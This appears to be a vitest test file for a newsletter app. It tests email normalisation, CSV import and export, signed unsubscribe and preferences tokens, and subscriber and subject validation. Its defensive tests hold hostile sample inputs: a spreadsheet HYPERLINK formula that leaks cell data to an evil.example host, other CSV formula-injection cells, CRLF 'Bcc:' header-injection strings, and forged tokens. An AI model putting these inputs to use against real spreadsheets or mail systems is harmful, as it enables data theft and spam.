import { createHmac } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { SubscriberInput } from '../../src/db/subscribers.ts';
import { MAX_SUBJECT_LENGTH, subjectSchema, validateSubject } from '../../src/digest/subject.ts';
import { normaliseEmail } from '../../src/lib/mail.ts';
import { isTimeZone } from '../../src/time.ts';
import { csvField, formatCsv, parseCsv } from '../../src/subscriptions/csv.ts';
import { mergeByEmail, splitTags, validateSubscriber } from '../../src/subscriptions/subscribers.ts';
import { createToken, readerLinks, verifyToken, type TokenClaims } from '../../src/lib/reader-links.ts';

const email = (input: string) => {
  const r = normaliseEmail(input);
  return 'email' in r ? r.email : undefined;
};

describe('normaliseEmail', () => {
  it('trims and lower-cases', () => {
    expect(normaliseEmail('  Jane.Doe@Example.COM \n')).toEqual({ email: 'jane.doe@example.com' });
  });

  it('accepts plus addressing', () => {
    expect(email('jane+news@example.com')).toBe('jane+news@example.com');
    expect(email('Jane+Digest.Weekly@Example.org')).toBe('jane+digest.weekly@example.org');
  });

  it('drops a mailto: prefix', () => {
    expect(email('mailto:x@example.com')).toBe('x@example.com');
  });

  it('converts an IDN domain to punycode, whatever its case', () => {
    expect(email('user@bücher.de')).toBe('user@xn--bcher-kva.de');
    expect(email('user@BÜCHER.de')).toBe('user@xn--bcher-kva.de');
    expect(email('user@例え.テスト')).toBe('user@xn--r8jz45g.xn--zckzah');
  });

  it.each(['no-at', 'a@b', 'a@@b.com', 'a..b@x.com', '.a@x.com', 'a.@x.com', 'a b@x.com', '@x.com', 'a@', 'x@-bad.com', 'x@y..com', 'x@y.c', 'x@y.123'])(
    'rejects %j with a message',
    (input) => {
      const r = normaliseEmail(input);
      expect(r).toHaveProperty('error');
      expect('error' in r && r.error.length).toBeGreaterThan(0);
    },
  );

  it('rejects empty and over-long input', () => {
    expect(normaliseEmail('   ')).toEqual({ error: 'address is empty' });
    expect(normaliseEmail(`${'a'.repeat(250)}@x.com`)).toHaveProperty('error');
    expect(normaliseEmail(`${'a'.repeat(65)}@x.com`)).toHaveProperty('error');
    expect(email(`${'a'.repeat(64)}@x.com`)).toBe(`${'a'.repeat(64)}@x.com`);
  });

  it('quotes the input in the error message', () => {
    const r = normaliseEmail(' a..b@x.com ');
    expect('error' in r && r.error).toContain('"a..b@x.com"');
  });
});

describe('isTimeZone', () => {
  it('accepts IANA zones and UTC', () => {
    expect(isTimeZone('Europe/Berlin')).toBe(true);
    expect(isTimeZone('America/Argentina/Buenos_Aires')).toBe(true);
    expect(isTimeZone('UTC')).toBe(true);
  });

  it('rejects unknown zones and bare abbreviations', () => {
    expect(isTimeZone('Mars/Olympus')).toBe(false);
    expect(isTimeZone('EST')).toBe(false);
    expect(isTimeZone('')).toBe(false);
  });
});

/** The records of a file that must parse without a problem. */
const records = (text: string) => {
  const r = parseCsv(text);
  expect(r.error).toBeUndefined();
  return r.records;
};

describe('parseCsv', () => {
  it('reads simple records with line numbers', () => {
    expect(records('email,name\na@x.com,A\nb@x.com,B\n')).toEqual([
      { line: 1, fields: ['email', 'name'] },
      { line: 2, fields: ['a@x.com', 'A'] },
      { line: 3, fields: ['b@x.com', 'B'] },
    ]);
  });

  it('reads quoted fields with commas and doubled quotes', () => {
    expect(records('"Doe, Jane","say ""hi""",plain\n')).toEqual([{ line: 1, fields: ['Doe, Jane', 'say "hi"', 'plain'] }]);
  });

  it('reads embedded newlines and numbers the following record by its own line', () => {
    const text = 'email,name\n"a@x.com","two\nlines"\nb@x.com,"three\nmore\nlines"\nc@x.com,C\n';
    expect(records(text)).toEqual([
      { line: 1, fields: ['email', 'name'] },
      { line: 2, fields: ['a@x.com', 'two\nlines'] },
      { line: 4, fields: ['b@x.com', 'three\nmore\nlines'] },
      { line: 7, fields: ['c@x.com', 'C'] },
    ]);
  });

  it('reads CRLF files, including CRLF inside quotes', () => {
    expect(records('email,name\r\n"a@x.com","x\r\ny"\r\nb@x.com,B\r\n')).toEqual([
      { line: 1, fields: ['email', 'name'] },
      { line: 2, fields: ['a@x.com', 'x\r\ny'] },
      { line: 4, fields: ['b@x.com', 'B'] },
    ]);
  });

  it('skips a byte order mark', () => {
    const rows = records('\uFEFFemail,name\r\na@x.com,A\r\n');
    expect(rows[0]!.fields[0]).toBe('email');
    expect(rows).toHaveLength(2);
  });

  it('skips blank lines but keeps counting them', () => {
    expect(records('email\n\na@x.com\n   \nb@x.com')).toEqual([
      { line: 1, fields: ['email'] },
      { line: 3, fields: ['a@x.com'] },
      { line: 5, fields: ['b@x.com'] },
    ]);
  });

  it('keeps empty fields, and a last record without a newline', () => {
    expect(records('a,,c\nd,e,')).toEqual([
      { line: 1, fields: ['a', '', 'c'] },
      { line: 2, fields: ['d', 'e', ''] },
    ]);
  });

  it('keeps non-ASCII text', () => {
    expect(records('zoë@x.com,"Zoë — “Z”"\n')[0]!.fields).toEqual(['zoë@x.com', 'Zoë — “Z”']);
  });

  it('returns nothing for empty input', () => {
    expect(records('')).toEqual([]);
    expect(records('\uFEFF')).toEqual([]);
  });
});

describe('formatCsv', () => {
  it('quotes only what needs quoting and ends lines with CRLF', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(' padded')).toBe('" padded"');
    expect(formatCsv(['a', 'b'], [['1', '2,3']])).toBe('a,b\r\n1,"2,3"\r\n');
  });

  it('round-trips through parseCsv', () => {
    const header = ['email', 'name', 'tags', 'note'];
    const rows = [
      ['a@x.com', 'Doe, Jane', 'Rust;AI', 'says "hello"'],
      ['b@x.com', '', 'Go', 'two\nlines'],
      ['c@x.com', '  spaced  ', 'Zoë — “Z”', 'x\r\ny'],
      ['d@x.com', '"', ',', '""'],
    ];
    const text = formatCsv(header, rows);
    const parsed = records(text);
    expect(parsed.map((r) => r.fields)).toEqual([header, ...rows]);
    expect(parsed.map((r) => r.line)).toEqual([1, 2, 3, 5, 7]);
  });
});

describe('CSV formula guard (OWASP CSV injection)', () => {
  const dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already quoted", "''-two", '=', '-'];
  const harmless = ['plain', "'quoted but harmless", "it's", 'a=b', '', ' =padded'];

  it('writes a cell a spreadsheet would run as a formula quoted, behind a single quote', () => {
    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvField('+1')).toBe('"\'+1"');
    expect(csvField('-x')).toBe('"\'-x"');
    expect(csvField('@x')).toBe('"\'@x"');
    expect(csvField('\tx')).toBe('"\'\tx"');
    expect(csvField('\rx')).toBe('"\'\rx"');
    expect(csvField("'=x")).toBe('"\'\'=x"');
    for (const v of dangerous) expect(csvField(v)).toMatch(/^"'/);
    // A spreadsheet sees a cell's text without its quotes: none starts with a formula character.
    for (const v of [...dangerous, ...harmless]) expect(csvField(v).replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    for (const v of harmless) expect(csvField(v)).not.toMatch(/^"?'{2}|^"?'[=+\-@\t\r]/);
  });

  it('reads back exactly what it wrote, including values that start with quotes', () => {
    const rows = [...dangerous, ...harmless].map((v) => ['x@example.com', v]);
    expect(records(formatCsv(['email', 'name'], rows)).map((r) => r.fields)).toEqual([['email', 'name'], ...rows]);
  });

  it('reads a guarded cell the same whether or not a spreadsheet kept the quotes around it', () => {
    expect(records("email,name\n-a@example.com,'=SUM(A1)\n")[1]!.fields).toEqual(['-a@example.com', '=SUM(A1)']);
    expect(records("'-a@example.com,\"'-Ann\"\n")[0]!.fields).toEqual(['-a@example.com', '-Ann']);
  });
});

describe('parseCsv: unterminated quote', () => {
  it('keeps the records before it and names the line where the quote opened', () => {
    const r = parseCsv('email,name\na@x.com,A\nb@x.com,"B\nc@x.com,C\nd@x.com,D\n');
    expect(r.records).toEqual([
      { line: 1, fields: ['email', 'name'] },
      { line: 2, fields: ['a@x.com', 'A'] },
    ]);
    expect(r.error).toEqual({ line: 3, problem: expect.stringMatching(/^unterminated quoted field\b.*not read/) });
  });

  it('names the opening line even after multi-line fields', () => {
    const r = parseCsv('email,name\r\n"a@x.com","two\r\nlines"\r\nb@x.com,B\r\n"c@x.com\r\n');
    expect(r.records.map((x) => x.line)).toEqual([1, 2, 4]);
    expect(r.error?.line).toBe(5);
  });

  it('reports an unterminated header', () => {
    expect(parseCsv('"email\na@x.com\n')).toEqual({ records: [], error: { line: 1, problem: expect.stringContaining('unterminated quoted field') } });
  });
});

// --- tokens ------------------------------------------------------------------------------------

const SECRET = 'a-test-secret-of-enough-length';
const NOW = new Date('2026-11-23T08:00:00Z');
const nowSeconds = Math.floor(NOW.getTime() / 1000);

describe('tokens', () => {
  const claims: TokenClaims = { purpose: 'unsubscribe', subscriberId: 42, issueId: 7 };

  it('verifies for its own purpose and returns the claims', () => {
    const t = createToken(SECRET, claims);
    expect(verifyToken(SECRET, t, 'unsubscribe', NOW)).toEqual({ purpose: 'unsubscribe', subscriberId: 42, issueId: 7, expires: undefined });
  });

  it('carries a missing issue as undefined', () => {
    const t = createToken(SECRET, { purpose: 'preferences', subscriberId: 123456789 });
    expect(verifyToken(SECRET, t, 'preferences', NOW)).toEqual({ purpose: 'preferences', subscriberId: 123456789, issueId: undefined, expires: undefined });
  });

  it('does not verify for another purpose', () => {
    const t = createToken(SECRET, claims);
    for (const p of ['preferences', 'web', 'confirm'] as const) expect(verifyToken(SECRET, t, p, NOW)).toBeNull();
    const prefs = createToken(SECRET, { purpose: 'preferences', subscriberId: 42 });
    expect(verifyToken(SECRET, prefs, 'unsubscribe', NOW)).toBeNull();
  });

  it('fails with another secret', () => {
    const t = createToken(SECRET, claims);
    expect(verifyToken('another-secret-of-enough-length', t, 'unsubscribe', NOW)).toBeNull();
  });

  it('fails when the payload is tampered with', () => {
    const t = createToken(SECRET, claims);
    const [, sig] = t.split('.');
    const forged = (payload: string) => `${Buffer.from(payload).toString('base64url')}.${sig}`;
    // The genuine payload with the genuine signature still verifies; any change does not.
    expect(verifyToken(SECRET, forged(['unsubscribe', (42).toString(36), (7).toString(36), ''].join('.')), 'unsubscribe', NOW)).not.toBeNull();
    expect(verifyToken(SECRET, forged(['unsubscribe', (43).toString(36), (7).toString(36), ''].join('.')), 'unsubscribe', NOW)).toBeNull();
    expect(verifyToken(SECRET, forged(['preferences', (42).toString(36), (7).toString(36), ''].join('.')), 'preferences', NOW)).toBeNull();
    expect(verifyToken(SECRET, forged(['unsubscribe', (42).toString(36), (8).toString(36), ''].join('.')), 'unsubscribe', NOW)).toBeNull();
  });

  it('fails when the signature is tampered with', () => {
    const t = createToken(SECRET, claims);
    const [payload, sig] = t.split('.') as [string, string];
    for (let i = 0; i < sig.length; i += 5) {
      const c = sig[i] === 'A' ? 'B' : 'A';
      const bad = `${payload}.${sig.slice(0, i)}${c}${sig.slice(i + 1)}`;
      expect(verifyToken(SECRET, bad, 'unsubscribe', NOW)).toBeNull();
    }
    expect(verifyToken(SECRET, `${payload}.${sig.slice(0, -4)}`, 'unsubscribe', NOW)).toBeNull();
    expect(verifyToken(SECRET, `${payload}.${sig}AAAA`, 'unsubscribe', NOW)).toBeNull();
  });

  it('rejects malformed tokens', () => {
    const t = createToken(SECRET, claims);
    for (const bad of ['', 'x', '.', `${t}.extra`, t.split('.')[0]!, `.${t.split('.')[1]}`]) {
      expect(verifyToken(SECRET, bad, 'unsubscribe', NOW)).toBeNull();
    }
  });

  it('fails once expired, works before', () => {
    const t = createToken(SECRET, { purpose: 'confirm', subscriberId: 5, expires: nowSeconds + 60 });
    expect(verifyToken(SECRET, t, 'confirm', NOW)).toMatchObject({ subscriberId: 5, expires: nowSeconds + 60 });
    expect(verifyToken(SECRET, t, 'confirm', new Date(NOW.getTime() + 61_000))).toBeNull();
    const old = createToken(SECRET, { purpose: 'confirm', subscriberId: 5, expires: nowSeconds - 1 });
    expect(verifyToken(SECRET, old, 'confirm', NOW)).toBeNull();
  });

  it('is deterministic, and differs for different claims', () => {
    expect(createToken(SECRET, claims)).toBe(createToken(SECRET, { ...claims }));
    expect(createToken(SECRET, claims)).not.toBe(createToken(SECRET, { ...claims, subscriberId: 43 }));
    expect(createToken(SECRET, claims)).not.toBe(createToken(SECRET, { ...claims, issueId: 8 }));
    expect(createToken(SECRET, claims)).not.toBe(createToken('another-secret-of-enough-length', claims));
  });

  it('is URL-safe', () => {
    for (let id = 1; id < 200; id += 7) {
      expect(createToken(SECRET, { purpose: 'web', subscriberId: id, issueId: id * 3 })).toMatch(/^[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+$/);
    }
  });

  it('readerLinks give each link a token for its own purpose', () => {
    const links = readerLinks({ secret: SECRET, publicUrl: 'https://news.example.com', mailDomain: 'example.com', subscriberId: 9, issueId: 3 });
    const token = (url: string) => new URL(url).searchParams.get('t')!;
    expect(links.web.startsWith('https://news.example.com/web/3?t=')).toBe(true);
    expect(verifyToken(SECRET, token(links.web), 'web', NOW)).toMatchObject({ subscriberId: 9, issueId: 3 });
    expect(verifyToken(SECRET, token(links.preferences), 'preferences', NOW)).toMatchObject({ subscriberId: 9 });
    expect(verifyToken(SECRET, token(links.unsubscribe), 'unsubscribe', NOW)).toMatchObject({ subscriberId: 9, issueId: 3 });
    expect(verifyToken(SECRET, token(links.unsubscribe), 'preferences', NOW)).toBeNull();
    expect(links.unsubscribeMailto).toBe(`mailto:unsubscribe@example.com?subject=unsubscribe%20${token(links.unsubscribe)}`);
  });
});

describe('tokens accept only the canonical encoding', () => {
  // Signs a payload the way createToken does, to build non-canonical payloads with a valid signature.
  const signed = (payload: string) =>
    `${Buffer.from(payload).toString('base64url')}.${createHmac('sha256', SECRET).update(`tagcast-link-v1\0${payload}`).digest().subarray(0, 18).toString('base64url')}`;

  /** A token whose payload has spare trailing bits (length not a multiple of 3) and uses "-" or "_". */
  function sample(): { token: string; claims: TokenClaims } {
    for (let id = 1; ; id++) {
      const claims: TokenClaims = { purpose: 'unsubscribe', subscriberId: id, issueId: 7 };
      const token = createToken(SECRET, claims);
      const [p, sig] = token.split('.') as [string, string];
      if (p.length % 4 !== 0 && /[-_]/.test(token) && /[-_]/.test(sig)) return { token, claims };
    }
  }
  const { token, claims } = sample();
  const [p, sig] = token.split('.') as [string, string];

  it('verifies the canonical token', () => {
    expect(signed(['unsubscribe', claims.subscriberId.toString(36), '7', ''].join('.'))).toBe(token);
    expect(verifyToken(SECRET, token, 'unsubscribe', NOW)).toMatchObject({ subscriberId: claims.subscriberId, issueId: 7 });
  });

  it('rejects padding, the standard alphabet, white space and other trailing bits', () => {
    const lastBits = (s: string) => {
      // The last character of an unpadded encoding carries 2 or 4 spare bits; set the lowest one.
      const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
      return `${s.slice(0, -1)}${alphabet[alphabet.indexOf(s.at(-1)!) | 1]}`;
    };
    const variants = [
      `${p}=.${sig}`,
      `${p}==.${sig}`,
      `${p}.${sig}=`,
      token.replace(/-/g, '+').replace(/_/g, '/'),
      `${p}.${sig.replace(/-/g, '+').replace(/_/g, '/')}`,
      `${lastBits(p)}.${sig}`,
      ` ${token}`,
      `${token} `,
      `${token}\n`,
      `${p.slice(0, 4)} ${p.slice(4)}.${sig}`,
      `${p}.${sig.slice(0, 8)}\n${sig.slice(8)}`,
      `${p}. ${sig}`,
      `${p}.${sig}.`,
      `${p}.${sig}A`,
      `${p}A.${sig}`,
      `${'A'.repeat(200)}.${sig}`,
    ];
    expect(lastBits(p)).not.toBe(p);
    // Node's decoder reads each of these as the genuine bytes; only the exact string may verify.
    expect(Buffer.from(lastBits(p), 'base64url')).toEqual(Buffer.from(p, 'base64url'));
    for (const v of variants) expect(verifyToken(SECRET, v, 'unsubscribe', NOW), JSON.stringify(v)).toBeNull();
  });

  it('rejects a signed payload that is not written as createToken writes it', () => {
    const id = claims.subscriberId.toString(36);
    for (const payload of [
      `unsubscribe.0${id}.7.`, // leading zero
      `unsubscribe.+${id}.7.`, // sign
      `unsubscribe.-${id}.7.`,
      `unsubscribe.A.7.`, // upper case (parseInt reads it as 10)
      `unsubscribe.${id}.07.`,
      `unsubscribe.${id}.7.00`,
      `unsubscribe.${id}.7`, // a field missing
      `unsubscribe.${id}.7..`, // a field too many
      `unsubscribe.${id}.7. `,
      `unsubscribe.${'z'.repeat(12)}.7.`, // past the safe integers
      `Unsubscribe.${id}.7.`, // purpose not as written
      `unsubscribe .${id}.7.`,
    ]) {
      expect(verifyToken(SECRET, signed(payload), 'unsubscribe', NOW), payload).toBeNull();
    }
    // The same forging route with the canonical payload does verify, so the rejections above are real.
    expect(verifyToken(SECRET, signed(`unsubscribe.${id}.7.`), 'unsubscribe', NOW)).not.toBeNull();
    expect(verifyToken(SECRET, signed('bogus.1.7.'), 'bogus' as never, NOW)).toBeNull();
  });
});

// --- subscriber validation ---------------------------------------------------------------------

describe('splitTags', () => {
  it('splits on , ; and |, cleans and de-duplicates', () => {
    expect(splitTags(' Rust; go |AI, rust ,, Distributed  Systems')).toEqual(['Rust', 'go', 'AI', 'Distributed Systems']);
  });

  it('takes an array as it is (no splitting inside items)', () => {
    expect(splitTags(['Rust', 'A, B', 'rust'])).toEqual(['Rust', 'A, B']);
  });

  it('gives an empty list for nothing', () => {
    expect(splitTags(undefined)).toEqual([]);
    expect(splitTags('')).toEqual([]);
    expect(splitTags(' ; , ')).toEqual([]);
  });
});

describe('validateSubscriber', () => {
  it('normalises a good row', () => {
    expect(
      validateSubscriber({ email: ' Jane@Example.COM ', name: '  Jane Doe ', tags: 'Rust;AI', timeZone: ' Europe/Berlin ', status: ' Pending ' }, 'csv:x.csv'),
    ).toEqual({ email: 'jane@example.com', name: 'Jane Doe', timeZone: 'Europe/Berlin', tags: ['Rust', 'AI'], status: 'pending', source: 'csv:x.csv' });
  });

  it('defaults: active, no name, no time zone, no tags', () => {
    expect(validateSubscriber({ email: 'a@x.com', name: '  ', timeZone: '' }, 'cli')).toEqual({
      email: 'a@x.com',
      name: null,
      timeZone: null,
      tags: [],
      status: 'active',
      source: 'cli',
    });
  });

  it('reports every problem of a bad row', () => {
    const r = validateSubscriber({ email: 'a..b@x.com', timeZone: 'Mars/Olympus', status: 'gone' }, 'cli');
    expect('errors' in r).toBe(true);
    const errors = (r as { errors: string[] }).errors;
    expect(errors).toHaveLength(3);
    expect(errors[0]).toContain('a..b@x.com');
    expect(errors.some((e) => e.includes('Mars/Olympus'))).toBe(true);
    expect(errors.some((e) => e.includes('"gone"'))).toBe(true);
  });

  it('rejects a bad address alone', () => {
    expect(validateSubscriber({ email: 'no-at' }, 'cli')).toEqual({ errors: ['"no-at" is not an email address'] });
  });

  it('refuses control characters other than white space in a name and in tags', () => {
    for (const name of ['Eve\u0000', 'Eve\u001b[31m', 'Eve\u0007', 'Eve\u0085', 'Eve\u007f', 'Eve\u009b']) {
      const r = validateSubscriber({ email: 'a@x.com', name }, 'cli');
      expect(r, JSON.stringify(name)).toEqual({ errors: [expect.stringMatching(/^name contains a control character \(U\+[0-9A-F]{4}\)$/)] });
    }
    expect(validateSubscriber({ email: 'a@x.com', tags: 'AI;Ru\u0000st' }, 'cli')).toHaveProperty('errors');
    expect(validateSubscriber({ email: 'a@x.com', tags: ['AI', 'R\u0007'] }, 'cli')).toHaveProperty('errors');
  });

  it('folds line breaks and tabs in a name into one space (a wrapped spreadsheet cell), so none is stored', () => {
    for (const name of ['Eve\r\nBcc: x@example.com', 'Eve\nBcc: x@example.com', 'Eve\tBcc: x@example.com', 'Eve\u2028Bcc: x@example.com', 'Eve \r\n\t Bcc: x@example.com']) {
      expect(validateSubscriber({ email: 'a@x.com', name }, 'cli'), JSON.stringify(name)).toMatchObject({ name: 'Eve Bcc: x@example.com' });
    }
    expect(validateSubscriber({ email: 'a@x.com', tags: 'AI;Ru\nst' }, 'cli')).toMatchObject({ tags: ['AI', 'Ru st'] });
    // A name that starts with a formula character is a name like any other.
    expect(validateSubscriber({ email: '-a@x.com', name: '-Ann =x' }, 'cli')).toMatchObject({ email: '-a@x.com', name: '-Ann =x' });
  });

  it('rejects over-long names and tags', () => {
    expect(validateSubscriber({ email: 'a@x.com', name: 'n'.repeat(201) }, 'cli')).toHaveProperty('errors');
    expect(validateSubscriber({ email: 'a@x.com', name: 'n'.repeat(200) }, 'cli')).not.toHaveProperty('errors');
    expect(validateSubscriber({ email: 'a@x.com', tags: 't'.repeat(61) }, 'cli')).toHaveProperty('errors');
    expect(validateSubscriber({ email: 'a@x.com', tags: 't'.repeat(60) }, 'cli')).not.toHaveProperty('errors');
  });
});

describe('mergeByEmail', () => {
  const row = (over: Partial<SubscriberInput>): SubscriberInput => ({
    email: 'a@x.com',
    name: null,
    timeZone: null,
    tags: [],
    status: 'active',
    source: 'csv',
    ...over,
  });

  it('unites tags and lets later non-empty fields win', () => {
    const merged = mergeByEmail([
      row({ name: 'First', timeZone: 'Europe/Berlin', tags: ['Rust', 'AI'] }),
      row({ email: 'b@x.com', tags: ['Go'] }),
      row({ name: 'Second', tags: ['ai', 'Go'] }),
      row({ name: null, timeZone: null, tags: ['Zig'] }),
    ]);
    expect(merged).toEqual([
      row({ name: 'Second', timeZone: 'Europe/Berlin', tags: ['Rust', 'AI', 'Go', 'Zig'] }),
      row({ email: 'b@x.com', tags: ['Go'] }),
    ]);
  });

  it('keeps distinct addresses in first-seen order', () => {
    const merged = mergeByEmail([row({ email: 'c@x.com' }), row({ email: 'a@x.com' }), row({ email: 'b@x.com' }), row({ email: 'c@x.com' })]);
    expect(merged.map((r) => r.email)).toEqual(['c@x.com', 'a@x.com', 'b@x.com']);
  });

  it('does not change its input', () => {
    const first = row({ tags: ['Rust'] });
    mergeByEmail([first, row({ tags: ['Go'] })]);
    expect(first.tags).toEqual(['Rust']);
  });
});

// --- issue subject -----------------------------------------------------------------------------

describe('validateSubject', () => {
  it('accepts one line of text, trimmed, up to the limit', () => {
    expect(validateSubject('  Week 48: Rust — ünïcödé 🚀 ')).toEqual({ subject: 'Week 48: Rust — ünïcödé 🚀' });
    expect(validateSubject('🚀'.repeat(MAX_SUBJECT_LENGTH))).toEqual({ subject: '🚀'.repeat(MAX_SUBJECT_LENGTH) });
    expect(MAX_SUBJECT_LENGTH).toBe(200);
  });

  it('refuses CR, LF and every other control character, without echoing the value', () => {
    for (const bad of ['a\r\nBcc: x@y', 'a\nb', 'a\rb', 'a\tb', 'a\u0000b', 'a\u007fb', 'a\u0085b', 'a\u2028b', 'a\u2029b', 'trailing\r\n', '\r\n', '\tleading']) {
      const r = validateSubject(bad);
      expect(r, JSON.stringify(bad)).toEqual({ error: expect.stringMatching(/^subject contains a control character \(U\+[0-9A-F]{4}\)/) });
      expect((r as { error: string }).error).not.toMatch(/[\r\n]|Bcc/);
    }
  });

  it('refuses an empty or over-long subject', () => {
    expect(validateSubject('  ')).toEqual({ error: 'subject is empty' });
    expect(validateSubject('x'.repeat(MAX_SUBJECT_LENGTH + 1))).toEqual({ error: 'subject is 201 characters long; at most 200 are allowed' });
  });

  it('is also a zod schema for request bodies', () => {
    expect(subjectSchema.parse(' Hi ')).toBe('Hi');
    const r = subjectSchema.safeParse('a\r\nb');
    expect(r.success).toBe(false);
    expect(r.error?.issues[0]?.message).toMatch(/control character/);
  });
});
